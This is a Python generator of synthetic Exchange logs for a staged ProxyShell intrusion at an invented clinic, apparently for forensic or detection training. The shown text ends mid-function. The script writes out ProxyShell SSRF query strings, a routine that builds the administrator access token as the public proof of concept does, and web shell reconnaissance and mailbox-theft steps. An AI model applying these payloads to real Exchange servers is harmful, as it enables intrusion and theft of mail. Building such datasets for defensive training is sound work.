#!/usr/bin/env python3
"""Generate examples/exchange-2021/ logs and inventory (deterministic: fixed seed).

The story, timeline and expected findings are documented in examples/README.md; this script is
the single source of the synthetic records so that the data stays internally consistent.
Usage: gen_exchange_2021.py <examples/exchange-2021>
"""
import base64
import csv
import io
import json
import random
import struct
import sys
import uuid
from datetime import datetime, timedelta, timezone
from pathlib import Path

R = random.Random(20210813)
UTC = timezone.utc
OUT = Path(sys.argv[1])

SERVER_IP = "10.20.1.25"
HOST = "MAIL01"
FQDN = "MAIL01.clinic.example.org"
PUBLIC = "mail.clinic.example.org"
DOMAIN = "clinic.example.org"
NETBIOS = "CLINIC"
DOMAIN_SID = "S-1-5-21-3962815718-1449557202-2741897710"
BUILD = ("15", "2", "792", "3")
ATTACKER_SCAN = "203.0.113.45"
ATTACKER = "203.0.113.77"
ATTACKER2 = "203.0.113.91"

# Staff (invented). internal desktop IP, home IP (documentation range), phone (IPv6 documentation range)
USERS = [
    # sam, display, rid, desktop, home, phone, phone UA
    ("p.moreau", "Pauline Moreau", 1105, "10.20.3.14", "192.0.2.31", "2001:db8:4a1:7::31", "Apple-iPhone12C1/1806.56"),
    ("j.kowalski", "Jan Kowalski", 1106, "10.20.3.21", None, "2001:db8:4a1:7::52", "Android-SAMSUNG-SM-G991B/101.30000"),
    ("dr.amelia.hart", "Dr Amelia Hart", 1107, "10.20.3.30", "192.0.2.44", "2001:db8:4a1:9::18", "Apple-iPhone13C2/1806.56"),
    ("dr.rajesh.nair", "Dr Rajesh Nair", 1108, "10.20.3.31", "192.0.2.57", "2001:db8:4a1:9::77", "Apple-iPad8C1/1806.56"),
    ("dr.sofia.lindqvist", "Dr Sofia Lindqvist", 1109, "10.20.3.32", "192.0.2.63", None, None),
    ("n.osei", "Nana Osei", 1110, "10.20.3.40", None, "2001:db8:4a1:b::5", "Apple-iPhone12C1/1806.56"),
    ("m.quinlan", "Marie Quinlan", 1111, "10.20.3.22", None, None, None),
    ("billing", "Billing", 1112, "10.20.3.23", None, None, None),
    ("reception", "Reception", 1113, "10.20.3.10", None, None, None),
]
ADMIN_RID = 500
MSP_ADMIN = ("msp.admin", "MSP Support", 1120, "10.20.1.50")
HEALTH_MAILBOX = "HealthMailbox6f2c9d8e1b7a4c3"

OUTLOOK_UA = "Microsoft+Office/16.0+(Windows+NT+10.0;+Microsoft+Outlook+16.0.13127;+Pro)"
EDGE_UA = "Mozilla/5.0+(Windows+NT+10.0;+Win64;+x64)+AppleWebKit/537.36+(KHTML,+like+Gecko)+Chrome/92.0.4515.131+Safari/537.36+Edg/92.0.902.67"
SAFARI_UA = "Mozilla/5.0+(Macintosh;+Intel+Mac+OS+X+10_15_7)+AppleWebKit/605.1.15+(KHTML,+like+Gecko)+Version/14.1.2+Safari/605.1.15"
ATT_UA = "Mozilla/5.0+(Windows+NT+10.0;+Win64;+x64)+AppleWebKit/537.36+(KHTML,+like+Gecko)+Chrome/91.0.4472.124+Safari/537.36"
PY_UA = "python-requests/2.26.0"
WINRM_UA = "Microsoft+WinRM+Client"
AMPROBE = "AMProbe/Local/ClientAccess"


def ts(s):
    return datetime.strptime(s, "%Y-%m-%d %H:%M:%S").replace(tzinfo=UTC)


def upn(sam):
    return f"{sam}@{DOMAIN}"


def sid(rid):
    return f"{DOMAIN_SID}-{rid}"


# --------------------------------------------------------------------------------------------
# IIS W3C (W3SVC1, front end)
# --------------------------------------------------------------------------------------------
IIS_FIELDS = ("date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip "
              "cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status time-taken")
iis = []  # (datetime, line-without-date-time-prefix, tag)


def req(t, method, stem, query="-", user="-", cip="-", ua="-", ref="-", status=200, sub=0, win32=0, taken=None, tag="benign"):
    if taken is None:
        taken = R.randint(3, 120)
    iis.append((t, f"{SERVER_IP} {method} {stem} {query or '-'} 443 {user or '-'} {cip} {ua} {ref} {status} {sub} {win32} {taken}", tag))


def cafe():
    return str(uuid.UUID(int=R.getrandbits(128), version=4))


MBX = {u[0]: str(uuid.UUID(int=R.getrandbits(128), version=4)) for u in USERS}
MBX["administrator"] = str(uuid.UUID(int=R.getrandbits(128), version=4))


def owa_session(t, sam, ip, ua, internal):
    user = upn(sam)
    req(t, "GET", "/owa/", "-", "-", ip, ua, "-", 302, 0, 0)
    t += timedelta(seconds=1)
    req(t, "GET", "/owa/auth/logon.aspx", "url=https%3a%2f%2f" + PUBLIC + "%2fowa%2f&reason=0", "-", ip, ua, "-", 200)
    for res in ("themes/resources/segoeui-regular.ttf", "themes/resources/favicon.ico"):
        req(t, "GET", f"/owa/auth/15.2.792/{res}", "-", "-", ip, ua, f"https://{PUBLIC}/owa/auth/logon.aspx?url=https%3a%2f%2f{PUBLIC}%2fowa%2f&reason=0", 200)
    t += timedelta(seconds=R.randint(6, 20))
    req(t, "POST", "/owa/auth.owa", "-", user, ip, ua, f"https://{PUBLIC}/owa/auth/logon.aspx?url=https%3a%2f%2f{PUBLIC}%2fowa%2f&reason=0", 302, taken=R.randint(60, 240))
    t += timedelta(seconds=1)
    req(t, "GET", "/owa/", "-", user, ip, ua, f"https://{PUBLIC}/owa/auth/logon.aspx?url=https%3a%2f%2f{PUBLIC}%2fowa%2f&reason=0", 200, taken=R.randint(150, 600))
    n = R.randint(4, 9)
    for _ in range(n):
        t += timedelta(seconds=R.randint(5, 240))
        action = R.choice(["FindItem", "GetItem", "GetConversationItems", "FindConversation", "GetAttachment", "CreateItem", "UpdateItem"])
        req(t, "POST", "/owa/service.svc", f"action={action}&EP=1&ID=-{R.randint(10, 90)}&AC=1", user, ip, ua, f"https://{PUBLIC}/owa/", 200, taken=R.randint(15, 400))
    req(t + timedelta(seconds=2), "POST", "/owa/ev.owa2", f"ns=PendingRequest&ev=PendingNotificationRequest&UA=0&cid={cafe()}&X-OWA-CANARY=X-OWA-CANARY_cookie_is_null_or_empty", user, ip, ua, f"https://{PUBLIC}/owa/", 200, taken=R.randint(80000, 300000))


def eas_ping(t, sam, ip6, ua, count):
    dev = "ApplF" + format(R.getrandbits(40), "010X") if "Apple" in ua else "androidc" + str(R.randint(10**8, 10**9))
    dtype = "iPhone" if "iPhone" in ua else ("iPad" if "iPad" in ua else "Android")
    user = upn(sam)
    q = f"User={sam}%40{DOMAIN}&DeviceId={dev}&DeviceType={dtype}"
    for _ in range(count):
        req(t, "POST", "/Microsoft-Server-ActiveSync/default.eas", f"Cmd=Ping&{q}", user, ip6, ua, "-", 200, taken=R.randint(470000, 480100))
        t += timedelta(seconds=R.randint(480, 560))
        if R.random() < 0.5:
            req(t, "POST", "/Microsoft-Server-ActiveSync/default.eas", f"Cmd=Sync&{q}", user, ip6, ua, "-", 200, taken=R.randint(40, 400))


def outlook_day(day, sam, ip):
    user = f"{NETBIOS}\\{sam}"
    start = day + timedelta(hours=7, minutes=R.randint(0, 50), seconds=R.randint(0, 59))
    req(start, "POST", "/Autodiscover/Autodiscover.xml", "-", user, ip, OUTLOOK_UA, "-", 200, taken=R.randint(40, 180))
    t = start + timedelta(seconds=2)
    mid = MBX[sam]
    req(t, "POST", "/mapi/emsmdb/", f"mailboxId={mid}@{DOMAIN}&CorrelationID=<empty>;&cafeReqId={cafe()};", user, ip, OUTLOOK_UA, "-", 200, taken=R.randint(20, 90))
    req(t, "POST", "/mapi/nspi/", f"MailboxId={mid}@{DOMAIN}&CorrelationID=<empty>;&cafeReqId={cafe()};", user, ip, OUTLOOK_UA, "-", 200, taken=R.randint(10, 60))
    end = day + timedelta(hours=16, minutes=R.randint(0, 80))
    while t < end:
        t += timedelta(seconds=R.randint(900, 2400))
        req(t, "POST", "/mapi/emsmdb/", f"mailboxId={mid}@{DOMAIN}&CorrelationID=<empty>;&cafeReqId={cafe()};", user, ip, OUTLOOK_UA, "-", 200, taken=R.randint(15, 900))
        if R.random() < 0.25:
            req(t + timedelta(seconds=1), "POST", "/EWS/Exchange.asmx", "-", user, ip, OUTLOOK_UA, "-", 200, taken=R.randint(20, 140))


def health(day, hours=24):
    t = day + timedelta(minutes=R.randint(0, 3), seconds=R.randint(0, 59))
    eps = ["/owa/healthcheck.htm", "/ecp/healthcheck.htm", "/EWS/healthcheck.htm", "/mapi/healthcheck.htm",
           "/Microsoft-Server-ActiveSync/healthcheck.htm", "/Autodiscover/healthcheck.htm", "/OAB/healthcheck.htm"]
    i = 0
    while t < day + timedelta(hours=hours):
        req(t, "GET", eps[i % len(eps)], "-", "-", "127.0.0.1", AMPROBE, "-", 200, taken=R.randint(0, 15))
        i += 1
        t += timedelta(seconds=R.randint(1500, 2100))


def noise(day):
    for _ in range(R.randint(1, 3)):
        t = day + timedelta(seconds=R.randint(0, 86399))
        ip = f"192.0.2.{R.randint(200, 250)}"
        path = R.choice(["/robots.txt", "/.env", "/favicon.ico", "/wp-login.php", "/remote/login"])
        req(t, "GET", path, "-", "-", ip, "Mozilla/5.0+(compatible;+Nimbostratus-Bot/v1.3.2;+http://cloudsystemnetworks.com)", "-", 404, 0, 2, R.randint(0, 5), tag="noise")


def autodiscover_json_benign(t, sam, ip6, ua):
    req(t, "GET", "/autodiscover/autodiscover.json", f"Email={sam}%40{DOMAIN}&Protocol=ActiveSync&RedirectCount=1", "-", ip6, ua, "-", 200, taken=R.randint(20, 90))


def ordinary_day(day, weekday=True):
    health(day)
    noise(day)
    if not weekday:
        for u in USERS:
            if u[5] and R.random() < 0.6:
                eas_ping(day + timedelta(hours=R.randint(8, 18), minutes=R.randint(0, 59)), u[0], u[5], u[6], R.randint(1, 3))
        return
    for u in USERS:
        sam, _, _, desk, home, phone, pua = u
        if R.random() < 0.9:
            outlook_day(day, sam, desk)
        if home and R.random() < 0.6:
            owa_session(day + timedelta(hours=R.choice([6, 17, 18, 19]), minutes=R.randint(0, 59), seconds=R.randint(0, 59)),
                        sam, home, R.choice([EDGE_UA, SAFARI_UA]), False)
        if phone:
            eas_ping(day + timedelta(hours=R.randint(6, 9), minutes=R.randint(0, 59)), sam, phone, pua, R.randint(2, 5))
            if R.random() < 0.3:
                autodiscover_json_benign(day + timedelta(hours=R.randint(7, 17), minutes=R.randint(0, 59)), sam, phone, pua)
    if R.random() < 0.5:
        ip, user = MSP_ADMIN[3], f"{NETBIOS}\\{MSP_ADMIN[0]}"
        t = day + timedelta(hours=R.randint(9, 15), minutes=R.randint(0, 59))
        req(t, "GET", "/ecp/", "-", user, ip, EDGE_UA, "-", 200, taken=R.randint(200, 900))
        for schema in ("MailboxService", "RecipientService"):
            t += timedelta(seconds=R.randint(3, 40))
            req(t, "POST", "/ecp/DDI/DDIService.svc/GetList", f"schema={schema}&msExchEcpCanary={base64.urlsafe_b64encode(R.randbytes(24)).decode().rstrip('=')}", user, ip, EDGE_UA, f"https://{PUBLIC}/ecp/", 200, taken=R.randint(60, 700))


# ---- ProxyShell --------------------------------------------------------------------------
def rps_cat(login, user_sid):
    """The X-Rps-CAT CommonAccessToken as the public ProxyShell proof of concept serialises it."""
    t = b"V" + bytes([1, 0])
    t += b"T" + bytes([len("Windows")]) + b"Windows"
    t += b"C" + bytes([0])
    t += b"A" + bytes([len("Kerberos")]) + b"Kerberos"
    t += b"L" + bytes([len(login)]) + login.encode()
    t += b"U" + bytes([len(user_sid)]) + user_sid.encode()
    gsid = "S-1-5-32-544"
    t += b"G" + struct.pack("<II", 1, 7) + bytes([len(gsid)]) + gsid.encode()
    t += b"E" + struct.pack(">I", 0)
    return base64.b64encode(t).decode()


SSRF = "autodiscover/autodiscover.json%3F@evil.corp"
CAT = rps_cat(f"administrator@{DOMAIN}", sid(ADMIN_RID))
PS_QUERY = f"@evil.corp/powershell/?X-Rps-CAT={CAT}&Email={SSRF}"
proxy_events = []  # for HttpProxy logs: (t, protocol, method, stem, query, status, ua, cip, anchor, user, tag)


def ps_session(t, n, tag):
    for i in range(n):
        taken = R.randint(150, 2600)
        req(t, "POST", "/autodiscover/autodiscover.json", PS_QUERY, "-", ATTACKER, WINRM_UA, "-", 200, taken=taken, tag=tag)
        proxy_events.append((t, "Autodiscover", "POST", "/autodiscover/autodiscover.json", "?" + PS_QUERY, 200, WINRM_UA.replace("+", " "), ATTACKER, "Smtp~autodiscover/autodiscover.json?@evil.corp", "", tag))
        t += timedelta(seconds=R.randint(1, 4))
    return t


def attack():
    # 1. mass-scan probe (vulnerable server answers 200)
    t = ts("2021-08-12 21:14:03")
    q = f"@evil.corp/mapi/nspi/?&Email={SSRF}"
    req(t, "GET", "/autodiscover/autodiscover.json", q, "-", ATTACKER_SCAN, "Mozilla/5.0+zgrab/0.x", "-", 200, taken=42, tag="malicious")
    proxy_events.append((t, "Autodiscover", "GET", "/autodiscover/autodiscover.json", "?" + q, 200, "Mozilla/5.0 zgrab/0.x", ATTACKER_SCAN, "Smtp~autodiscover/autodiscover.json?@evil.corp", "", "malicious"))
    # 2. exploitation 2021-08-13 03:02
    t = ts("2021-08-13 03:02:11")
    steps = [
        ("POST", f"@evil.corp/autodiscover/autodiscover.xml?&Email={SSRF}", PY_UA),
        ("POST", f"@evil.corp/mapi/emsmdb?&Email={SSRF}", PY_UA),
        ("POST", f"@evil.corp/EWS/exchange.asmx?&Email={SSRF}", PY_UA),
    ]
    for m, q, ua in steps:
        req(t, m, "/autodiscover/autodiscover.json", q, "-", ATTACKER, ua, "-", 200, taken=R.randint(60, 400), tag="malicious")
        proxy_events.append((t, "Autodiscover", m, "/autodiscover/autodiscover.json", "?" + q, 200, ua, ATTACKER, "Smtp~autodiscover/autodiscover.json?@evil.corp", "", "malicious"))
        t += timedelta(seconds=R.randint(1, 2))
    t = ts("2021-08-13 03:02:17")
    ps_session(t, 9, "malicious")            # role assignment + first export (03:02:31, 03:02:52)
    ps_session(ts("2021-08-13 03:03:38"), 3, "malicious")   # Remove-MailboxExportRequest
    # 3. first web shell (aspnet_client, DefaultAppPool)
    shell1 = "/aspnet_client/kxnqtm.aspx"
    req(ts("2021-08-13 03:04:05"), "GET", shell1, "c=whoami", "-", ATTACKER, ATT_UA, "-", 200, taken=1811, tag="malicious")
    req(ts("2021-08-13 03:04:31"), "GET", shell1, "c=ipconfig+/all", "-", ATTACKER, ATT_UA, "-", 200, taken=905, tag="malicious")
    # 4. second export into owa/auth (SYSTEM context via MSExchangeOWAAppPool)
    ps_session(ts("2021-08-13 03:07:49"), 6, "malicious")
    ps_session(ts("2021-08-13 03:09:02"), 3, "malicious")
    shell2 = "/owa/auth/errorEE.aspx"
    for tt, q, taken in [("2021-08-13 03:10:14", "c=whoami", 640), ("2021-08-13 03:10:40", "c=nltest+/domain_trusts", 1203)]:
        req(ts(tt), "GET", shell2, q, "-", ATTACKER, ATT_UA, "-", 200, taken=taken, tag="malicious")
    for tt in ["2021-08-13 03:11:02", "2021-08-13 03:12:37", "2021-08-13 03:13:10"]:
        req(ts(tt), "POST", shell2, "-", "-", ATTACKER, ATT_UA, "-", 200, taken=R.randint(300, 2200), tag="malicious")
    # Defender removes shell1 at 03:19:44; attacker retries -> 404
    req(ts("2021-08-13 03:21:09"), "GET", shell1, "c=whoami", "-", ATTACKER, ATT_UA, "-", 404, 0, 2, 15, tag="malicious")
    # 5. theft: two mailbox exports to .pst, renamed to .zip, downloaded
    ps_session(ts("2021-08-13 03:26:40"), 8, "malicious")
    for tt in ["2021-08-13 03:39:55", "2021-08-13 03:40:21"]:
        req(ts(tt), "POST", shell2, "-", "-", ATTACKER, ATT_UA, "-", 200, taken=R.randint(300, 900), tag="malicious")
    req(ts("2021-08-13 03:41:02"), "GET", "/aspnet_client/system_web/ref.zip", "-", "-", ATTACKER, ATT_UA, "-", 200, taken=412877, tag="malicious")
    req(ts("2021-08-13 03:48:31"), "GET", "/aspnet_client/system_web/rec.zip", "-", "-", ATTACKER, ATT_UA, "-", 200, taken=236140, tag="malicious")
    req(ts("2021-08-13 03:53:12"), "POST", shell2, "-", "-", ATTACKER, ATT_UA, "-", 200, taken=512, tag="malicious")
    ps_session(ts("2021-08-13 03:54:03"), 4, "malicious")
    # 6. later check-ins on the persistent shell
    for tt in ["2021-08-14 22:41:09", "2021-08-16 01:12:48"]:
        req(ts(tt), "POST", shell2, "-", "-", ATTACKER2, ATT_UA, "-", 200, taken=R.randint(200, 800), tag="malicious")


def phishing_iis():
    """November: EWS through the same SSRF, impersonating reception@ to send mail."""
    q = f"@evil.corp/EWS/exchange.asmx?&Email={SSRF}"
    for day, start, n in [("2021-11-22", "09:12:04", 24), ("2021-11-23", "08:47:31", 22)]:
        t = ts(f"{day} {start}")
        for _ in range(n):
            req(t, "POST", "/autodiscover/autodiscover.json", q, "-", ATTACKER2, PY_UA, "-", 200, taken=R.randint(90, 700), tag="malicious")
            proxy_events.append((t, "Autodiscover", "POST", "/autodiscover/autodiscover.json", "?" + q, 200, PY_UA, ATTACKER2, "Smtp~autodiscover/autodiscover.json?@evil.corp", "", "malicious"))
            t += timedelta(seconds=R.randint(4, 11))


def write_iis():
    days = {}
    for t, line, tag in iis:
        days.setdefault(t.date(), []).append((t, line))
    d = OUT / "logs/iis/W3SVC1"
    d.mkdir(parents=True, exist_ok=True)
    restart = ts("2021-08-15 02:14:55")
    for day, rows in sorted(days.items()):
        rows.sort(key=lambda r: r[0])
        out = []

        def header(at):
            out.append("#Software: Microsoft Internet Information Services 10.0")
            out.append("#Version: 1.0")
            out.append("#Date: " + at.strftime("%Y-%m-%d %H:%M:%S"))
            out.append("#Fields: " + IIS_FIELDS)
        header(rows[0][0])
        restarted = False
        for t, line in rows:
            if not restarted and day == restart.date() and t >= restart:
                header(t)
                restarted = True
            out.append(t.strftime("%Y-%m-%d %H:%M:%S") + " " + line)
        (d / f"u_ex{day.strftime('%y%m%d')}.log").write_text("\r\n".join(out) + "\r\n")


# --------------------------------------------------------------------------------------------
# Exchange HttpProxy logs (CSV)
# --------------------------------------------------------------------------------------------
HP_FIELDS = ["DateTime", "RequestId", "MajorVersion", "MinorVersion", "BuildVersion", "RevisionVersion", "ClientRequestId",
             "Protocol", "UrlHost", "UrlStem", "ProtocolAction", "AuthenticationType", "IsAuthenticated", "AuthenticatedUser",
             "Organization", "AnchorMailbox", "UserAgent", "ClientIpAddress", "ServerHostName", "HttpStatus", "BackEndStatus",
             "ErrorCode", "Method", "ProxyAction", "TargetServer", "TargetServerVersion", "RoutingType", "RoutingHint",
             "BackEndCookie", "ServerLocatorHost", "ServerLocatorLatency", "RequestBytes", "ResponseBytes",
             "TargetOutstandingRequests", "AuthModulePerfContext", "HttpPipelineLatency", "CalculateTargetBackEndLatency",
             "GlsLatencyBreakup", "TotalGlsLatency", "AccountForestLatencyBreakup", "TotalAccountForestLatency",
             "ResourceForestLatencyBreakup", "TotalResourceForestLatency", "ADLatency", "SharedCacheLatencyBreakup",
             "TotalSharedCacheLatency", "ActivityContextLifeTime", "ModuleToHandlerSwitchingLatency", "ClientReqStreamLatency",
             "BackendReqInitLatency", "BackendReqStreamLatency", "BackendProcessingLatency", "BackendRespInitLatency",
             "BackendRespStreamLatency", "ClientRespStreamLatency", "KerberosAuthHeaderLatency", "HandlerCompletionLatency",
             "RequestHandlerLatency", "HandlerToModuleSwitchingLatency", "ProxyTime", "CoreLatency", "RoutingLatency",
             "HttpProxyOverhead", "TotalRequestTime", "RouteRefresherLatency", "UrlQuery", "BackEndGenericInfo",
             "GenericInfo", "GenericErrors", "EdgeTraceId", "DatabaseGuid", "UserADObjectGuid",
             "PartitionEndpointLookupLatency", "RoutingStatus"]
DB_GUID = str(uuid.UUID(int=R.getrandbits(128), version=4))


def hp_row(t, protocol, method, stem, query, status, ua, cip, anchor, user, authtype=""):
    total = R.randint(8, 900)
    row = dict.fromkeys(HP_FIELDS, "")
    row.update({
        "DateTime": t.strftime("%Y-%m-%dT%H:%M:%S.") + f"{R.randint(0, 999):03d}Z",
        "RequestId": str(uuid.UUID(int=R.getrandbits(128), version=4)),
        "MajorVersion": BUILD[0], "MinorVersion": BUILD[1], "BuildVersion": BUILD[2], "RevisionVersion": BUILD[3],
        "Protocol": protocol, "UrlHost": PUBLIC if not cip.startswith("127.") else "localhost", "UrlStem": stem,
        "AuthenticationType": authtype, "IsAuthenticated": "true" if user else "false", "AuthenticatedUser": user,
        "AnchorMailbox": anchor, "UserAgent": ua, "ClientIpAddress": cip, "ServerHostName": HOST,
        "HttpStatus": str(status), "BackEndStatus": str(status), "Method": method, "ProxyAction": "Proxy",
        "TargetServer": FQDN.lower(), "TargetServerVersion": "Version 15.2 (Build 792.3)",
        "RoutingType": "", "RequestBytes": str(R.randint(0, 4000) if method == "POST" else 0),
        "ResponseBytes": str(R.randint(300, 60000)), "TargetOutstandingRequests": "0",
        "HttpPipelineLatency": str(R.randint(0, 3)), "CalculateTargetBackEndLatency": str(R.randint(0, 4)),
        "ADLatency": str(R.randint(0, 9)), "ActivityContextLifeTime": str(total), "BackendProcessingLatency": str(max(total - 5, 1)),
        "ProxyTime": str(max(total - 3, 1)), "CoreLatency": str(R.randint(0, 6)), "RoutingLatency": str(R.randint(0, 3)),
        "HttpProxyOverhead": str(R.randint(2, 12)), "TotalRequestTime": str(total), "UrlQuery": query,
        "GenericInfo": f"OnBeginRequest=0;CorrelationID=<empty>;ProxyState-Run=None;FEAuth=BEVersion-1942062595;",
        "DatabaseGuid": DB_GUID if user else "", "RoutingStatus": "Success" if status < 400 else "",
    })
    return row


def write_httpproxy():
    groups = {}
    for (t, protocol, method, stem, query, status, ua, cip, anchor, user, tag) in proxy_events:
        groups.setdefault((protocol, t.strftime("%Y%m%d%H")), []).append(hp_row(t, protocol, method, stem, query, status, ua, cip, anchor, user))
    # ordinary traffic in the same hours: health probes, Outlook autodiscover, OWA
    for (protocol, hour) in list(groups):
        start = datetime.strptime(hour, "%Y%m%d%H").replace(tzinfo=UTC)
        for i in range(R.randint(10, 16)):
            t = start + timedelta(seconds=R.randint(0, 3599))
            groups[(protocol, hour)].append(hp_row(t, "Autodiscover", "GET", "/Autodiscover/healthcheck.htm", "", 200, "AMProbe/Local/ClientAccess", "127.0.0.1", "", "", ""))
        if start.hour >= 7:
            for u in USERS[:6]:
                t = start + timedelta(seconds=R.randint(0, 3599))
                groups[(protocol, hour)].append(hp_row(t, "Autodiscover", "POST", "/Autodiscover/Autodiscover.xml", "", 200, OUTLOOK_UA.replace("+", " "), u[3], f"Smtp~{upn(u[0])}", f"{NETBIOS}\\{u[0]}", "Negotiate"))
    owa_hour = "2021081308"
    start = datetime.strptime(owa_hour, "%Y%m%d%H").replace(tzinfo=UTC)
    rows = []
    for _ in range(60):
        u = R.choice([x for x in USERS if x[4]] + [USERS[0], USERS[2]])
        ip = u[4] or u[3]
        t = start + timedelta(seconds=R.randint(0, 3599))
        action = R.choice(["FindItem", "GetItem", "GetConversationItems", "FindConversation", "GetAttachment"])
        rows.append(hp_row(t, "Owa", "POST", "/owa/service.svc", f"?action={action}&EP=1&ID=-{R.randint(10, 90)}&AC=1", 200, EDGE_UA.replace("+", " "), ip, f"Sid~{sid(u[2])}", upn(u[0]), "BEServerCookie"))
    for i in range(12):
        t = start + timedelta(seconds=R.randint(0, 3599))
        rows.append(hp_row(t, "Owa", "GET", "/owa/healthcheck.htm", "", 200, "AMProbe/Local/ClientAccess", "127.0.0.1", "", ""))
    groups[("Owa", owa_hour)] = rows
    for (protocol, hour), rows in groups.items():
        rows.sort(key=lambda r: r["DateTime"])
        buf = io.StringIO()
        w = csv.DictWriter(buf, fieldnames=HP_FIELDS, lineterminator="\r\n")
        for r in rows:
            w.writerow(r)
        d = OUT / "logs/httpproxy" / protocol
        d.mkdir(parents=True, exist_ok=True)
        head = ["#Software: Microsoft Exchange Server", "#Version: 15.02.0792.003", "#Log-type: HttpProxy Logs",
                "#Date: " + rows[0]["DateTime"], "#Fields: " + ",".join(HP_FIELDS)]
        (d / f"HttpProxy_{hour}-1.LOG").write_text("\r\n".join(head) + "\r\n" + buf.getvalue())


# --------------------------------------------------------------------------------------------
# Windows events (JSON lines, flat, Sigma field names)
# --------------------------------------------------------------------------------------------
win = {}  # channel file -> list of events


def ev(channel_file, t, channel, provider, eid, level, task, keywords, fields, message=None, tag="benign", ms=None):
    if ms is None:
        ms = R.randint(0, 999)
    stamp = t.strftime("%Y-%m-%dT%H:%M:%S.") + f"{ms:03d}Z"
    e = {"@timestamp": stamp, "TimeCreated": stamp, "EventID": eid, "EventRecordID": 0, "Channel": channel,
         "Provider_Name": provider, "Computer": FQDN, "Level": level, "Task": task, "Keywords": keywords}
    if message is not None:
        e["Message"] = message
    e.update(fields)
    win.setdefault(channel_file, []).append((t, ms, e, tag))


EXBIN = r"C:\Program Files\Microsoft\Exchange Server\V15\Bin"
W3WP = r"C:\Windows\System32\inetsrv\w3wp.exe"


def w3wp_cmdline(pool):
    pipe = str(uuid.UUID(int=R.getrandbits(128), version=4))
    if pool == "DefaultAppPool":
        return rf'c:\windows\system32\inetsrv\w3wp.exe -ap "DefaultAppPool" -v "v4.0" -l "webengine4.dll" -a \\.\pipe\iisipm{pipe} -h "C:\inetpub\temp\apppools\DefaultAppPool\DefaultAppPool.config" -w "" -m 0 -t 20 -ta 0'
    return rf'c:\windows\system32\inetsrv\w3wp.exe -ap "{pool}" -v "v4.0" -c "C:\Program Files\Microsoft\Exchange Server\V15\bin\GenericAppPoolConfigWithGCServerEnabledFalse.config" -a \\.\pipe\iisipm{pipe} -h "C:\inetpub\temp\apppools\{pool}\{pool}.config" -w "" -m 0'


POOLS = {"DefaultAppPool": (5812, "{7C1F2A10-4B7E-6115-3A02-000000001B00}", w3wp_cmdline("DefaultAppPool")),
         "MSExchangeOWAAppPool": (9236, "{7C1F2A10-4B7E-6115-3C02-000000001B00}", w3wp_cmdline("MSExchangeOWAAppPool"))}
HASHES = {
    "cmd.exe": "SHA1=DED8FD7F36417F66EB6ADA10E0C0D7C0022986E9,MD5=911D039E71583A07320B32BDE22F8E22,SHA256=BC866CFCDDA37E24DC2634DC282C7A0E6F55209DA17A8FA105B07414C0E7C527,IMPHASH=272245E2988E1E430500B852C4FB5E18",
    "whoami.exe": "SHA1=47D7864D26FC67E0D60391A6B1CA9AA1F5A9C6C5,MD5=A4A6924F3EAF97981323703D38FD99C4,SHA256=1D4902A04D99E8CCBFE7085E63155955FEE397449D386453F6C452AE407B8743,IMPHASH=7FF0758B766F747CE57DFAC70743FB88",
    "ipconfig.exe": "SHA1=A3BD3A2DBE1A6C8B1A57C1B3BA6B4D6C4B2E3A11,MD5=62F170FB07FDBB79CEB7147101406EB8,SHA256=6C8DE9BF1AFD4E7A1AB1C1F6B8A1E1D6F1DE4B5E8F7A2E5C9E0B8F1B0A7F0D21,IMPHASH=8B7AF7B1D5E8E0CB3B9F9B9C3D8E8F71",
    "nltest.exe": "SHA1=C0E4B7A7F5B0E9C1A1C8E21D4F4B0E5A43E2E0D7,MD5=1E8F4E9A0C7F3D4B1A2C5E6F7A8B9C0D,SHA256=5B1D7C0E2F4A6B8C9D0E1F2A3B4C5D6E7F8091A2B3C4D5E6F708192A3B4C5D6E,IMPHASH=2E3F4A5B6C7D8E9F0A1B2C3D4E5F6A7B",
}
PGUID = iter(range(0x1C00, 0x3000))


def guid():
    return "{7C1F2A10-" + f"{R.randint(0x4b00, 0x4bff):04X}-6116-{next(PGUID):04X}-000000001B00" + "}"


def sysmon_proc(t, image, cmdline, parent_image, parent_cmd, parent_pid, parent_guid, user, tag, cwd=r"c:\windows\system32\inetsrv\\", ofn=None, desc=None, ms=None):
    pid = R.randint(1200, 14000)
    g = guid()
    name = image.split("\\")[-1]
    ev("Microsoft-Windows-Sysmon_Operational.jsonl", t, "Microsoft-Windows-Sysmon/Operational", "Microsoft-Windows-Sysmon", 1, 4, 1, "0x8000000000000000", {
        "RuleName": "-", "UtcTime": t.strftime("%Y-%m-%d %H:%M:%S.") + "000", "ProcessGuid": g, "ProcessId": str(pid),
        "Image": image, "FileVersion": "10.0.17763.1 (WinBuild.160101.0800)", "Description": desc or "Windows Command Processor",
        "Product": "Microsoft\u00ae Windows\u00ae Operating System", "Company": "Microsoft Corporation",
        "OriginalFileName": ofn or ("Cmd.Exe" if name == "cmd.exe" else name), "CommandLine": cmdline,
        "CurrentDirectory": cwd.rstrip("\\") + "\\", "User": user, "LogonGuid": "{7C1F2A10-4B6A-6115-E703-000000000000}",
        "LogonId": "0x3e7" if user.startswith("NT AUTHORITY") else "0x3f1c2", "TerminalSessionId": "0",
        "IntegrityLevel": "System" if user.startswith("NT AUTHORITY") else "High",
        "Hashes": HASHES.get(name, HASHES["cmd.exe"]), "ParentProcessGuid": parent_guid, "ParentProcessId": str(parent_pid),
        "ParentImage": parent_image, "ParentCommandLine": parent_cmd}, tag=tag, ms=R.randint(0, 999) if ms is None else ms)
    return pid, g


def webshell_cmd(t, pool, command, user, tag="malicious", child=None):
    ppid, pguid, pcmd = POOLS[pool]
    pms = R.randint(100, 600)
    pid, g = sysmon_proc(t, r"C:\Windows\System32\cmd.exe", f"cmd /c {command}", W3WP, pcmd, ppid, pguid, user, tag, ms=pms)
    if child:
        img, cl, desc = child
        sysmon_proc(t, img, cl, r"C:\Windows\System32\cmd.exe", f"cmd /c {command}", pid, g, user, tag,
                    ofn=img.split("\\")[-1], desc=desc, ms=pms + R.randint(20, 300))


def file_create(t, image, pid, target, tag):
    ev("Microsoft-Windows-Sysmon_Operational.jsonl", t, "Microsoft-Windows-Sysmon/Operational", "Microsoft-Windows-Sysmon", 11, 4, 11, "0x8000000000000000", {
        "RuleName": "-", "UtcTime": t.strftime("%Y-%m-%d %H:%M:%S.") + "000", "ProcessGuid": "{7C1F2A10-4B6B-6115-1D01-000000001B00}" if "MailboxReplication" in image else guid(),
        "ProcessId": str(pid), "Image": image, "TargetFilename": target,
